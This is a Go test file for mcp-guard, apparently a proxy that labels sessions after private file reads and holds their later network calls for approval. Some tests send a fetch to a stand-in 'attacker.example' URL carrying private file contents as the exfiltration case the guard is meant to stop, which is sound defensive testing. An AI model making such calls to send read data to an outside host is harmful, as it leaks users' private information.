package proxy

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/mcp-guard/mcp-guard/gate"
	"github.com/mcp-guard/mcp-guard/ledger"
)

// The walks of F1 and F3: labels a host's reads gain hold its later
// network calls, within the host's own label scope, as serve runs them
// from the config ([[rule]] labels, [[flow]]).

// flowProxy is a proxy over a fake filesystem server "fs" whose reads of
// <dir>/private/** label the scope private, and a fake "web" whose fetch
// is held (ask, 1s) once private data was read; taxes is a private file.
func flowProxy(t *testing.T) (p *memProxy, taxes string) {
	t.Helper()
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "private"), 0o700); err != nil {
		t.Fatal(err)
	}
	taxes = filepath.Join(root, "private", "taxes.md")
	if err := os.WriteFile(taxes, []byte("income: 123\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := tomlConfig(t, fmt.Sprintf(`
[[rule]]
server = "fs"
tool = "read_text_file"
class = "read"
action = "allow"
labels = ["private"]
when = { "/path" = { path = %q } }

[[rule]]
server = "fs"
tool = "read_text_file"
class = "read"
action = "allow"

[[rule]]
server = "web"
tool = "fetch"
class = "network"
action = "allow"

[[flow]]
from = "private"
to = ["network"]
action = "ask"
reason = "private data was read in this session"
`, filepath.Join(root, "private")+"/**"), "fs", "web")
	g := gate.New(cfg.CompiledRules(), gate.LocalServers(cfg.LocalServers()...), gate.WithFlows(cfg.FlowsInForce()))
	p = newMemProxyGate(t, g, func(o *Options) {
		o.Limits.ApprovalWait = time.Second
		o.Scope = joinOwnScope(t, o.Ledger.(*ledger.Ledger), o.Lease.ID())
	},
		[2]string{"fs", `{"tools":[{"name":"read_text_file","inputSchema":{"type":"object","properties":{"path":{"type":"string"}}}}],
"calls":{"read_text_file":{"do":"result","result":{"content":[{"type":"text","text":"income: 123"}]}}}}`},
		[2]string{"web", `{"tools":[{"name":"fetch","inputSchema":{"type":"object"}}]}`})
	return p, taxes
}

// joinOwnScope puts the ledger session id in a label scope of its own,
// "session:<id>", as serve does for its process without --scope, and
// returns the scope.
func joinOwnScope(t *testing.T, led *ledger.Ledger, id string) string {
	t.Helper()
	scope := "session:" + id
	if _, err := led.JoinScope(context.Background(), id, scope, time.Minute); err != nil {
		t.Fatal(err)
	}
	return scope
}

// newServe stops the proxy and starts it again as a new serve process
// would: a ledger session of its own, in a label scope of its own. Its
// hosts must have ended.
func (m *memProxy) newServe(t *testing.T) {
	t.Helper()
	lease, err := m.led.StartSession(context.Background(), ledger.SessionInfo{Kind: "serve", Host: "test", PID: os.Getpid()})
	if err != nil {
		t.Fatal(err)
	}
	m.opts.Lease, m.opts.Scope = lease, joinOwnScope(t, m.led, lease.ID())
	m.restart(t)
}

// heldNaming checks that res is a network call held (then not decided in
// time) naming the read of path as ledger call n.
func heldNaming(t *testing.T, what string, res *sdk.CallToolResult, err error, n int64, path string) {
	t.Helper()
	want := regexp.MustCompile(`private since call ` + itoa(int(n)) + `: fs/read_text_file \{"path":"` + regexp.QuoteMeta(path) + `"\}`)
	if err != nil || res == nil || !res.IsError || !want.MatchString(textOf(res)) || !strings.Contains(textOf(res), "approval") {
		t.Fatalf("%s: not held naming call %d: %v %+v", what, n, err, res)
	}
}

// holdingFrom is the scope holding label from call, and the hosts of its
// live sessions.
func (m *memProxy) holdingFrom(t *testing.T, label string, call int64) (string, []string) {
	t.Helper()
	scopes, err := m.led.Scopes(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range scopes {
		for _, l := range s.Labels {
			if l.Label == label && l.CallID == call {
				var hosts []string
				for _, ss := range s.Sessions {
					if ss.Alive {
						hosts = append(hosts, ss.Host)
					}
				}
				return s.Name, hosts
			}
		}
	}
	return "", nil
}

// The stateless HTTP host (2026-07-28): a labelled read in one request
// holds a network call sent later on a new connection with the same
// token, naming the read; legacy HTTP sessions of the same proxy and the
// stateless host do not share labels, either way; the label is in the
// stateless host's own scope.
func TestWalk_FlowsModernHTTP(t *testing.T) {
	walk(t, func(t *testing.T) {
		p, taxes := flowProxy(t)
		h := modernHTTPHost(t, p.Proxy)
		var elicited atomic.Int32
		fetches := func() int { return len(p.received(t, "web", "tools/call")) }
		read := map[string]any{"path": taxes}
		// Call 1: a legacy session reads; the stateless host is not held for it.
		legacy := h.sdk(t, "2025-11-25", nil)
		if res, err := callTool(legacy, "fs__read_text_file", read); err != nil || res.IsError {
			t.Fatalf("legacy read: %v %+v", err, res)
		}
		a := h.sdk(t, modernVersion, modernOpts(&elicited, true))
		// Call 2.
		if res, err := callTool(a, "web__fetch", map[string]any{"url": "u"}); err != nil || res.IsError {
			t.Fatalf("stateless fetch after a legacy session's read: %v %+v", err, res)
		}
		// Call 3: the stateless host reads, then its connection ends.
		if res, err := callTool(a, "fs__read_text_file", read); err != nil || res.IsError {
			t.Fatalf("stateless read: %v %+v", err, res)
		}
		a.Close()
		b := h.sdk(t, modernVersion, modernOpts(&elicited, true))
		res, err := callTool(b, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"})
		heldNaming(t, "stateless fetch on a new connection after the read", res, err, 3, taxes)
		if n := fetches(); n != 1 {
			t.Fatalf("fetches that reached the upstream: %d, want 1", n)
		}
		// A new legacy session does not hold the stateless host's label.
		if res, err := callTool(h.sdk(t, "2025-11-25", nil), "web__fetch", map[string]any{"url": "u"}); err != nil || res.IsError {
			t.Fatalf("legacy fetch after the stateless read: %v %+v", err, res)
		}
		if n := fetches(); n != 2 {
			t.Fatalf("fetches that reached the upstream: %d, want 2", n)
		}
		scope, hosts := p.holdingFrom(t, "private", 3)
		if !strings.HasPrefix(scope, "session:") || len(hosts) != 1 || !strings.HasPrefix(hosts[0], "http stateless ") {
			t.Fatalf("scope holding the stateless read's label: %q, live sessions %v", scope, hosts)
		}
		legacyScope, legacyHosts := p.holdingFrom(t, "private", 1)
		if legacyScope == "" || legacyScope == scope || len(legacyHosts) != 1 || strings.HasPrefix(legacyHosts[0], "http stateless ") {
			t.Fatalf("scope holding the legacy read's label: %q, live sessions %v", legacyScope, legacyHosts)
		}
	})
}

// Two HTTP sessions of one proxy do not share labels (F3's scope for HTTP
// hosts): the session that read is held, naming its read; the other runs.
func TestWalk_FlowsHTTPSessionsApart(t *testing.T) {
	walk(t, func(t *testing.T) {
		p, taxes := flowProxy(t)
		h := startHTTPHost(t, p.Proxy)
		a, b := h.sdk(t, "2025-11-25", nil), h.sdk(t, "2025-11-25", nil)
		if res, err := callTool(a, "fs__read_text_file", map[string]any{"path": taxes}); err != nil || res.IsError {
			t.Fatalf("read in a: %v %+v", err, res)
		}
		if res, err := callTool(b, "web__fetch", map[string]any{"url": "u"}); err != nil || res.IsError {
			t.Fatalf("fetch in b: %v %+v", err, res)
		}
		res, err := callTool(a, "web__fetch", map[string]any{"url": "u"})
		heldNaming(t, "fetch in a", res, err, 1, taxes)
		if n := len(p.received(t, "web", "tools/call")); n != 1 {
			t.Fatalf("fetches that reached the upstream: %d, want b's only", n)
		}
	})
}

// A stateless stdio host (2026-07-28): a labelled read in one request
// holds a network call in a later one, naming the read; the scope holding
// the label is the connection's serve's own, with its one live session;
// a new start of mcp-guard (a new scope) runs the call, and the ledger
// still verifies.
func TestWalk_FlowsModernStdio(t *testing.T) {
	walk(t, func(t *testing.T) {
		p, taxes := flowProxy(t)
		var elicited atomic.Int32
		s := startSDKHostAt(t, p.Proxy, modernVersion, modernOpts(&elicited, true))
		if v := s.InitializeResult().ProtocolVersion; v != modernVersion {
			t.Fatalf("negotiated %q, want %s", v, modernVersion)
		}
		if res, err := callTool(s, "fs__read_text_file", map[string]any{"path": taxes}); err != nil || res.IsError || !strings.Contains(textOf(res), "income") {
			t.Fatalf("read: %v %+v", err, res)
		}
		res, err := callTool(s, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"})
		heldNaming(t, "fetch after the read", res, err, 1, taxes)
		if n := len(p.received(t, "web", "tools/call")); n != 0 {
			t.Fatalf("the held fetch reached the upstream %d times", n)
		}
		scope, hosts := p.holdingFrom(t, "private", 1)
		if scope != "session:"+p.opts.Lease.ID() || len(hosts) != 1 {
			t.Fatalf("scope holding private: %q, live sessions %v", scope, hosts)
		}
		s.Close()
		p.newServe(t)
		s = startSDKHostAt(t, p.Proxy, modernVersion, modernOpts(&elicited, true))
		if res, err := callTool(s, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"}); err != nil || res.IsError {
			t.Fatalf("fetch from a new start: %v %+v", err, res)
		}
		if n := len(p.received(t, "web", "tools/call")); n != 1 {
			t.Fatalf("the new start's fetch reached the upstream %d times", n)
		}
		if rep, err := p.led.Verify(context.Background()); err != nil || !rep.OK {
			t.Fatalf("verify: %v %+v", err, rep)
		}
	})
}
